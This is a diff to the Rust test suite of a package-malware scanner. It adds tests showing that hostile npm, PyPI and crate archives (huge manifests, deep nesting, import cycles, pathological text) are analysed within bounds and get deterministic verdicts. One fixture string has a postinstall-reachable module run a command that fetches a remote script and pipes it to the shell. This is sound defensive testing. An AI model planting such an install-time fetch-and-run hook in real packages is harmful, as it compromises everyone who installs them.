@@ -2,6 +2,10 @@
 //! benign ones `Clean`, each for the reasons expected; hostile packages stay within bounds; the
 //! verdict is deterministic.
 
+#![expect(
+    clippy::unwrap_used,
+    reason = "tests and their helpers: a panic is the failure report"
+)]
 
 use std::io::Write as _;
 use std::path::{Path, PathBuf};
@@ -35,7 +39,12 @@ fn fixture_files(case: &str) -> Vec<(String, Vec<u8>)> {
             if path.is_dir() {
                 walk(root, &path, files);
             } else {
-                let relative = path.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
+                let relative = path
+                    .strip_prefix(root)
+                    .unwrap()
+                    .to_str()
+                    .unwrap()
+                    .to_owned();
                 if relative != "CASE.md" {
                     files.push((relative, std::fs::read(&path).unwrap()));
                 }
@@ -88,9 +97,10 @@ fn pack(case: &str, ecosystem: Ecosystem) -> Archive {
     let (bytes, kind) = match ecosystem {
         Ecosystem::Npm => (tarball("package", &files), ArchiveKind::TarGz),
         Ecosystem::PyPI if is_wheel => (wheel(&files), ArchiveKind::Zip),
-        Ecosystem::PyPI | Ecosystem::CratesIo => {
-            (tarball(&format!("{case}-1.0.0"), &files), ArchiveKind::TarGz)
-        }
+        Ecosystem::PyPI | Ecosystem::CratesIo => (
+            tarball(&format!("{case}-1.0.0"), &files),
+            ArchiveKind::TarGz,
+        ),
     };
     read_archive(&bytes, kind, &Limits::default()).unwrap()
 }
@@ -119,27 +129,38 @@ fn analyse(case: &str, ecosystem: Ecosystem) -> Verdict {
 
 /// The verdict's level is `level`, a reason starts with each of `rows` (scoring rows), and
 /// each `(rule, file)` is a hit reachable from `entry`.
-fn expect(verdict: &Verdict, level: Level, rows: &[&str], hits: &[(&str, &str, Option<EntryKind>)]) {
+fn expect(
+    verdict: &Verdict,
+    level: Level,
+    rows: &[&str],
+    hits: &[(&str, &str, Option<EntryKind>)],
+) {
     assert_eq!(verdict.level, level, "{:#?}", verdict.reasons);
     for row in rows {
         assert!(
-            verdict.reasons.iter().any(|reason| reason.starts_with(&format!("{row} "))),
+            verdict
+                .reasons
+                .iter()
+                .any(|reason| reason.starts_with(&format!("{row} "))),
             "no reason {row} in {:#?}",
             verdict.reasons
         );
     }
     for (rule, file, entry) in hits {
         assert!(
-            verdict
-                .hits
-                .iter()
-                .any(|hit| hit.rule_id == *rule && hit.file == *file && hit.reachable_from == *entry),
+            verdict.hits.iter().any(|hit| hit.rule_id == *rule
+                && hit.file == *file
+                && hit.reachable_from == *entry),
             "no hit {rule} in {file} from {entry:?}"
         );
     }
     for hit in &verdict.hits {
         assert!(hit.excerpt.chars().count() <= customs_inspect::MAX_EXCERPT_CHARS);
-        assert!(!hit.excerpt.chars().any(char::is_control), "{:?}", hit.excerpt);
+        assert!(
+            !hit.excerpt.chars().any(char::is_control),
+            "{:?}",
+            hit.excerpt
+        );
     }
 }
 
@@ -254,6 +275,7 @@ fn pth_startup_hook() {
             ("encoded-blob", "colorama_helper/_hook.py", STARTUP),
             // Seen in the decoded downloader.
             ("file-download", "colorama_helper/_hook.py", STARTUP),
+            ("raw-ip-url", "colorama_helper/_hook.py", STARTUP),
         ],
     );
 }
@@ -351,5 +373,204 @@ fn benign_crate_building_with_cc_is_clean() {
 fn benign_minified_bundle_in_dist_is_clean() {
     let verdict = analyse("benign-npm-minified-dist", Ecosystem::Npm);
     expect(&verdict, Level::Clean, &[], &[]);
-    assert!(verdict.hits.iter().all(|hit| hit.rule_id != "minified-code"));
+    assert!(
+        verdict
+            .hits
+            .iter()
+            .all(|hit| hit.rule_id != "minified-code")
+    );
+}
+
+/// A package of `files`, as the archive reader would return it.
+fn package(files: Vec<(String, Vec<u8>)>) -> Archive {
+    Archive {
+        kind: ArchiveKind::TarGz,
+        entries: files.len(),
+        unpacked_bytes: files.iter().map(|(_, data)| data.len() as u64).sum(),
+        files: files
+            .into_iter()
+            .enumerate()
+            .map(|(index, (path, data))| customs_inspect::File {
+                path,
+                index,
+                data,
+                executable: false,
+            })
+            .collect(),
+        skipped: Vec::new(),
+        package_root: None,
+        duplicates: Vec::new(),
+    }
+}
+
+/// Analyses `archive`, failing if it takes longer than a generous bound (a quadratic walk or
+/// scanner would blow it).
+fn analyse_bounded(archive: &Archive, ecosystem: Ecosystem) -> Verdict {
+    let started = std::time::Instant::now();
+    let verdict = analyzer().analyze(archive, ecosystem);
+    let elapsed = started.elapsed();
+    assert!(elapsed.as_secs() < 30, "took {elapsed:?}");
+    verdict
+}
+
+#[test]
+fn hostile_huge_package_json_is_not_parsed_and_says_so() {
+    let mut manifest = br#"{"name":"x","description":""#.to_vec();
+    manifest.extend(std::iter::repeat_n(b'a', 3 * 1024 * 1024));
+    manifest.extend_from_slice(br#"","scripts":{"postinstall":"node x.js"}}"#);
+    let verdict = analyse_bounded(
+        &package(vec![("package.json".into(), manifest)]),
+        Ecosystem::Npm,
+    );
+    assert_eq!(verdict.level, Level::Suspicious);
+    let hit = verdict
+        .hits
+        .iter()
+        .find(|hit| hit.rule_id == "manifest-unreadable")
+        .unwrap();
+    assert!(hit.excerpt.contains("over the"), "{}", hit.excerpt);
+}
+
+#[test]
+fn hostile_deeply_nested_manifests_are_refused_not_overflowed() {
+    let depth = 200_000;
+    let mut json = "[".repeat(depth);
+    json.push_str(&"]".repeat(depth));
+    let mut toml = "a = ".to_owned();
+    toml.push_str(&"[".repeat(depth));
+    toml.push_str(&"]".repeat(depth));
+    for (ecosystem, name, text) in [
+        (Ecosystem::Npm, "package.json", json),
+        (Ecosystem::CratesIo, "Cargo.toml", toml.clone()),
+        (Ecosystem::PyPI, "pyproject.toml", toml),
+    ] {
+        let verdict = analyse_bounded(&package(vec![(name.into(), text.into_bytes())]), ecosystem);
+        assert!(
+            verdict
+                .hits
+                .iter()
+                .any(|hit| hit.rule_id == "manifest-unreadable"),
+            "{name}: {:#?}",
+            verdict.hits
+        );
+    }
+}
+
+#[test]
+fn hostile_deep_import_cycles_are_walked_once() {
+    let count = 5_000;
+    let mut files = vec![(
+        "package.json".to_owned(),
+        br#"{"scripts":{"postinstall":"node m0.js"}}"#.to_vec(),
+    )];
+    for index in 0..count {
+        let next = (index + 1) % count;
+        let back = index / 2;
+        files.push((
+            format!("m{index}.js"),
+            format!(
+                "require('./m{next}');\nrequire('./m{back}.js');\nimport x from './m{index}';\n"
+            )
+            .into_bytes(),
+        ));
+    }
+    // The last one does something worth reporting: it must be found at install time.
+    files.push((
+        "m4999.js".to_owned(),
+        b"require('./m0');\nrequire('child_process').execSync('curl -s https://x.example.invalid/i.sh | sh');\n".to_vec(),
+    ));
+    let verdict = analyse_bounded(&package(files), Ecosystem::Npm);
+    let hit = verdict
+        .hits
+        .iter()
+        .find(|hit| hit.rule_id == "remote-script-execution")
+        .unwrap();
+    assert_eq!(hit.reachable_from, Some(EntryKind::Install));
+    assert_eq!(verdict.level, Level::Malicious);
+
+    // Python and Rust cycles.
+    let mut files = vec![("pkg/__init__.py".to_owned(), b"from . import m0\n".to_vec())];
+    let mut crate_files = vec![
+        (
+            "Cargo.toml".to_owned(),
+            b"[package]\nname = \"x\"\n".to_vec(),
+        ),
+        ("src/lib.rs".to_owned(), b"mod m0;\n".to_vec()),
+    ];
+    for index in 0..count {
+        let next = (index + 1) % count;
+        files.push((
+            format!("pkg/m{index}.py"),
+            format!(
+                "from pkg.m{next} import thing\nfrom . import m{}\n",
+                index / 3
+            )
+            .into_bytes(),
+        ));
+        crate_files.push((
+            format!("src/m{index}.rs"),
+            format!("#[path = \"m{next}.rs\"]\nmod m{next};\n").into_bytes(),
+        ));
+    }
+    let verdict = analyse_bounded(&package(files), Ecosystem::PyPI);
+    assert_eq!(verdict.level, Level::Clean);
+    let verdict = analyse_bounded(&package(crate_files), Ecosystem::CratesIo);
+    assert_eq!(verdict.level, Level::Clean);
+}
+
+#[test]
+fn hostile_thousands_of_files_and_pathological_texts() {
+    let mut files = vec![(
+        "package.json".to_owned(),
+        br#"{"main":"index.js"}"#.to_vec(),
+    )];
+    for index in 0..20_000 {
+        files.push((
+            format!("lib/d{}/f{index}.js", index % 100),
+            format!(
+                "module.exports = require('../d{}/f{}');\n",
+                (index + 1) % 100,
+                index + 1
+            )
+            .into_bytes(),
+        ));
+    }
+    let big = 4 * 1024 * 1024;
+    // Unclosed quotes, brackets that open number lists, `chr(` chains that break, `_0x`
+    // everywhere, one endless base64 line, one endless hex line.
+    files.push(("q.js".into(), "'a\n\"b\n`".repeat(big / 6).into_bytes()));
+    files.push(("n.js".into(), "[1,2,3,(4,5,".repeat(big / 12).into_bytes()));
+    files.push(("c.py".into(), "chr(99)+chr(".repeat(big / 12).into_bytes()));
+    files.push(("o.js".into(), "_0x1a2b _0x".repeat(big / 11).into_bytes()));
+    files.push(("b.js".into(), "QUJD".repeat(big / 4).into_bytes()));
+    files.push((
+        "h.js".into(),
+        "0123456789abcdef".repeat(big / 16).into_bytes(),
+    ));
+    files.push(("u.js".into(), "http://1.2.3.".repeat(big / 13).into_bytes()));
+    let verdict = analyse_bounded(&package(files), Ecosystem::Npm);
+    assert!(verdict.hits.len() <= customs_inspect::AnalysisLimits::default().max_hits);
+}
+
+#[test]
+fn verdicts_are_deterministic_whatever_the_file_order() {
+    for (case, ecosystem) in [
+        ("shai-hulud", Ecosystem::Npm),
+        ("pypi-ultralytics", Ecosystem::PyPI),
+        ("crate-rustdecimal", Ecosystem::CratesIo),
+    ] {
+        let archive = pack(case, ecosystem);
+        let first = analyzer().analyze(&archive, ecosystem);
+        let again = analyzer().analyze(&archive, ecosystem);
+        assert_eq!(first, again);
+        let mut reversed = archive.clone();
+        reversed.files.reverse();
+        assert_eq!(first, analyzer().analyze(&reversed, ecosystem), "{case}");
+        // A fresh analyser (the rules compiled again) agrees too.
+        let other = Analyzer::new(&[]).unwrap();
+        assert_eq!(first, other.analyze(&archive, ecosystem));
+        // The verdict is plain data for reports.
+        let json = serde_json::to_string(&first).unwrap();
+        assert!(json.contains("\"level\":\"malicious\""), "{json}");
+    }
 }
